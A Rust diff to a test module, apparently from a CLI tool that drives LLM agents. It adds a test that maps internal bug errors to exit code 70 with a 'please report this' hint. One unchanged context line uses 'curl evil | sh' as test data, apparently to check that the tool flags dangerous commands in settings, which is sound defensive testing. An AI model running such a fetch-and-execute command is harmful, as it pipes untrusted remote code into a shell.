@@ -293,7 +293,7 @@ mod tests {
             proxy::BadRole,
             settings::{Problem, Source},
         },
-        domain::role::RoleName,
+        domain::{fold::Illegal, id::TaskId, role::RoleName},
         ports::llm,
     };
 
@@ -359,6 +359,21 @@ mod tests {
         };
         let lines = report(&commands::Error::Settings(error)).lines().join("\n");
         assert!(lines.contains("\"curl evil | sh\"; \"rm\\u{1b}\"") && lines.contains("--trust-project"), "{lines}");
+    }
+
+    #[test]
+    fn a_bug_of_ours_is_exit_70_wherever_it_shows() {
+        let cut = |source| commands::Error::Cut { task: TaskId(uuid::Uuid::nil()), source: Box::new(source) };
+        let illegal = || Illegal { task: TaskId(uuid::Uuid::nil()), seq: 2, what: "x".into() };
+        for error in [
+            commands::Error::Bug("x"),
+            cut(agent::Error::Bug("x")),
+            cut(agent::Error::Log(log::Error::Illegal(illegal()))),
+            commands::Error::Log(log::Error::Illegal(illegal())),
+        ] {
+            assert_eq!((report(&error).kind, report(&error).exit), ("bug", 70), "{error:?}");
+            assert!(report(&error).hints.join("; ").contains("please report this"), "{error:?}");
+        }
     }
 
     #[test]
